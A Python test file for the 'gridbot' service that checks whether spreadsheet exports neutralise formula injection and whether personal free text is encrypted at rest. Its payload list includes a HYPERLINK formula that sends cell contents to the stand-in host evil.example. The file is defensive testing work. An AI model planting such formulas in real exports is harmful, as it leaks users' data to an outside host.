"""Hostile tests of the data gridbot keeps and hands out (issue 12): exports neutralise
spreadsheet formulas (6); personal free text is encrypted at rest (13). People, numbers and
the county's hostile names are fictional."""

from __future__ import annotations

import csv
import glob
import io
import json
import re
import sqlite3
from pathlib import Path

import asyncpg
import pytest
from openpyxl import Workbook, load_workbook

from bot.devkit.demo import DEMO_DATA_KEY
from tests.cli import run_gridbot
from tests.hostile import CODE, DEFAULT_LIMITS, code_in, hostile_stacks, inbound_rows
from tests.stack import RESIDENT

DEMO = Path(__file__).resolve().parents[2] / "config" / "demo"

# 6. Exports neutralise spreadsheet formulas

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "-A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+A1*2",
]
HOSTILE_COUNTIES = ["\t=1+1", "\r-1+1", "=SUM(1)", "@青禾县", "-1+1"]


def runs_as_formula(value) -> bool:
    """Would a spreadsheet evaluate this cell? Plain numbers and a lone dash are data."""
    text = "" if value is None else str(value)
    if not text.startswith(FORMULA_STARTS):
        return False
    return not re.fullmatch(r"[+-]?\d+(\.\d+)?%?|-", text)


def gridbot(env: dict[str, str], *args: str) -> str:
    done = run_gridbot(*args, env=env, timeout=120)
    assert done.returncode == 0, done.stderr
    return done.stdout


def as_text_cells(path: Path, rows: list[dict]) -> Path:
    """An XLSX whose every cell is a string, formula-like ones included."""
    book = Workbook()
    sheet = book.active
    sheet.append(list(rows[0]))
    for r, row in enumerate(rows, start=2):
        for c, value in enumerate(row.values(), start=1):
            cell = sheet.cell(row=r, column=c)
            cell.value = value
            cell.data_type = "s"
    book.save(path)
    return path


@pytest.fixture(scope="module")
def hostile_county(tmp_path_factory) -> tuple[dict[str, str], Path]:
    """The demo county with formula-like addresses, names and notes on every household
    (imported from an XLSX), formula-like county names, and grid workers on those grids."""
    folder = tmp_path_factory.mktemp("hostile-exports")
    with (DEMO / "households.csv").open(encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    for row, payload in zip(rows, PAYLOADS, strict=True):
        row.update(address=payload + "号", head_name=payload, note=payload)
    households = as_text_cells(folder / "households.xlsx", rows)
    grids = json.loads((DEMO / "grids.geojson").read_text("utf-8"))
    for feature, county in zip(grids["features"], HOSTILE_COUNTIES, strict=True):
        feature["properties"]["county"] = county
    (folder / "grids.geojson").write_text(json.dumps(grids, ensure_ascii=False), "utf-8")
    workers = [
        line
        for line in (DEMO / "staff.csv").read_text("utf-8").splitlines()
        if line.startswith("userid") or ",grid_worker," in line
    ]
    workers = [
        line.replace("李明华", "-李明华+1").replace("赵小燕", "@赵小燕") for line in workers
    ]
    (folder / "staff.csv").write_text("\n".join(workers) + "\n", "utf-8")
    env = {
        "GRIDBOT_DATABASE_URL": f"sqlite+aiosqlite:///{folder / 'gridbot.db'}",
        "GRIDBOT_DATA_KEY": DEMO_DATA_KEY,
    }
    gridbot(
        env,
        "import",
        "--grids",
        str(folder / "grids.geojson"),
        "--staff",
        str(folder / "staff.csv"),
        "--households",
        str(households),
    )
    return env, folder


UNMASKED = ("--unmasked", "--purpose", "民政局低保复核")


@pytest.mark.parametrize("masking", [(), UNMASKED], ids=["masked", "unmasked"])
def test_households_csv_export_runs_no_formula_however_the_data_starts(hostile_county, masking):
    env, _ = hostile_county
    rows = list(csv.reader(io.StringIO(gridbot(env, "export", "households", *masking))))

    assert len(rows) == 1 + len(PAYLOADS)
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
    if masking:  # the data is there, made harmless, not dropped
        notes = [row[-1] for row in rows[1:]]
        assert notes[0] == "'=1+1" and notes[2].endswith("-2+3")


@pytest.mark.parametrize("masking", [(), UNMASKED], ids=["masked", "unmasked"])
def test_households_xlsx_export_holds_no_formula_cell(hostile_county, masking, tmp_path):
    env, _ = hostile_county
    out = tmp_path / "households.xlsx"
    gridbot(env, "export", "households", *masking, "--format", "xlsx", "--out", str(out))

    cells = [cell for row in load_workbook(out).worksheets[0].iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [(c.coordinate, c.value) for c in cells if runs_as_formula(c.value)] == []


def test_assessment_csv_runs_no_formula_from_names_or_units(hostile_county):
    env, _ = hostile_county
    out = gridbot(env, "report", "assessment", "--quarter", "2026Q4", "--format", "csv")
    rows = list(csv.reader(io.StringIO(out)))

    assert len(rows) == 1 + 5  # the five grid workers
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["liminghua"].endswith("-李明华+1") and names["zhaoxiaoyan"].endswith("@赵小燕")


def test_assessment_xlsx_holds_no_formula_cell(hostile_county, tmp_path):
    env, _ = hostile_county
    out = tmp_path / "考核.xlsx"
    gridbot(
        env, "report", "assessment", "--quarter", "2026Q4", "--format", "xlsx", "--out", str(out)
    )

    cells = [cell for row in load_workbook(out).worksheets[0].iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [(c.coordinate, c.value) for c in cells if runs_as_formula(c.value)] == []


# 13. Personal free text is encrypted at rest

NAME, PHONE, ID_NUMBER = "欧阳志远", "13900000077", "110101199001011237"
NEIGHBOUR = "o_hostile_neighbour_02"
MARKS = {  # a distinct, searchable phrase for each kind of free text
    "report name": NAME,
    "report phone": PHONE,
    "report id": ID_NUMBER,
    "pending report": "待定位消息己庚辛",
    "neighbour name": "司马青云",
    "neighbour phone": "13900000088",
    "rate-limited message": "限流消息丙丁戊",
    "urge note": "督办说明申酉戌",
    "escalation reason": "上报原因寅卯辰",
    "resolution": "处理结果丁戊己",
    "visit note": "走访情况庚辛壬",
    "patrol finding": "巡查发现癸子丑",
    "return reason": "退回原因巳午未",
    "report while updates are held": "窗口关闭亥甲乙",
    "transfer report": "转派内容乙丙丁",
}


async def leave_personal_text_everywhere(stack) -> None:
    """Every kind of free text the requirement names, typed by residents and staff."""
    marks = MARKS
    await stack.say(
        f"小区门口垃圾堆了好几天没人清理，{marks['pending report']}，"
        f"我是{NAME}，电话{PHONE}，身份证{ID_NUMBER}"
    )
    await stack.locate("东关一网格")  # the report waiting for a location becomes a ticket
    code = code_in(await stack.say("查询"))
    await stack.locate("东关一网格", NEIGHBOUR)
    await stack.say(
        f"单元门口的垃圾箱满了，好几天没人来收，我是{marks['neighbour name']}，"
        f"电话{marks['neighbour phone']}",
        NEIGHBOUR,
    )
    for n in range(6):
        await stack.say(f"路灯坏了{marks['rate-limited message']}{n}", NEIGHBOUR)
    await stack.staff_says("liminghua", f"接单 {code}")
    await stack.staff_says("zhouhaitao", f"督办 {code} {marks['urge note']}")
    await stack.staff_says("liminghua", f"上报 {code} {marks['escalation reason']}")
    resolution = f"{marks['resolution']}，已联系{NAME}（{PHONE}）"
    await stack.staff_says("liminghua", f"办结 {code} {resolution}")
    await stack.staff_says("liminghua", f"走访 H0001 {marks['visit note']}")
    await stack.staff_says("liminghua", "开始巡查")
    await stack.staff_says("liminghua", f"巡查结束 发现路灯坏了 {marks['patrol finding']}")
    stack.fake.window_closed.add(RESIDENT)  # the update waits for the resident's next message
    await stack.drain()
    # the reply opens with the held update (the first ticket's code), then the new ticket
    reply = await stack.say(f"楼道里的灯坏了很久了，{marks['report while updates are held']}")
    second = CODE.findall(reply)[-1]
    await stack.staff_says("liminghua", f"接单 {second}")
    await stack.staff_says("liminghua", f"退回 {second} {marks['return reason']}")
    third = CODE.findall(await stack.say(f"楼下有人占道摆摊，{marks['transfer report']}"))[-1]
    await stack.staff_says("zhouhaitao", f"转派 {third} hanlei")
    await stack.drain()

    # the service itself reads it all back: the text was stored, sealed
    texts = " ".join(f"{t.text} {t.resolution or ''}" for t in await stack.tickets())
    for mark in (
        NAME,
        PHONE,
        marks["resolution"],
        marks["patrol finding"],
        marks["transfer report"],
    ):
        assert mark in texts, mark
    assert len(await inbound_rows(stack)) >= 20 and len(await stack.outbox()) >= 10


async def clear_text_in_database(url: str) -> list[tuple[str, str, str]]:
    """(table, column, mark) for every mark found in clear in any column of any table."""
    found = set()
    if url.startswith("sqlite"):
        connection = sqlite3.connect(url.split(":///", 1)[1])
        try:
            tables = [
                row[0]
                for row in connection.execute(
                    "SELECT name FROM sqlite_master WHERE type = 'table'"
                )
            ]
            for table in tables:
                columns = [row[1] for row in connection.execute(f'PRAGMA table_info("{table}")')]
                for row in connection.execute(f'SELECT * FROM "{table}"'):
                    for column, value in zip(columns, row, strict=True):
                        text = (
                            value.decode("utf-8", "replace")
                            if isinstance(value, bytes)
                            else str(value)
                        )
                        found.update(
                            (table, column, mark) for mark in MARKS.values() if mark in text
                        )
        finally:
            connection.close()
    else:
        connection = await asyncpg.connect("postgresql://" + url.split("://", 1)[1])
        try:
            columns = await connection.fetch(
                "SELECT table_name, column_name FROM information_schema.columns "
                "WHERE table_schema = 'public'"
            )
            for column in columns:
                table, name = column["table_name"], column["column_name"]
                for row in await connection.fetch(f'SELECT "{name}"::text AS v FROM "{table}"'):
                    found.update(
                        (table, name, mark)
                        for mark in MARKS.values()
                        if row["v"] and mark in row["v"]
                    )
        finally:
            await connection.close()
    return sorted(found)


async def test_personal_free_text_is_nowhere_in_clear_in_the_database(seeded_url, clock):
    async with hostile_stacks(seeded_url, clock, sections={"limits": DEFAULT_LIMITS}) as [stack]:
        await leave_personal_text_everywhere(stack)

    assert await clear_text_in_database(seeded_url) == []


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_personal_free_text_is_nowhere_in_the_sqlite_files_bytes(seeded_url, clock):
    """What a stolen disk gives: the database file and its journal, read as bytes."""
    async with hostile_stacks(seeded_url, clock, sections={"limits": DEFAULT_LIMITS}) as [stack]:
        await leave_personal_text_everywhere(stack)

    path = seeded_url.split(":///", 1)[1]
    raw = b"".join(Path(name).read_bytes() for name in glob.glob(path + "*"))
    assert [kind for kind, mark in MARKS.items() if mark.encode("utf-8") in raw] == []


async def test_what_staff_search_the_registry_for_is_not_kept_in_clear(seeded_url, clock):
    async with hostile_stacks(seeded_url, clock) as [stack]:
        for searched in (NAME, PHONE):
            await stack.staff_says("liminghua", f"查户 {searched}")

    assert await clear_text_in_database(seeded_url) == []
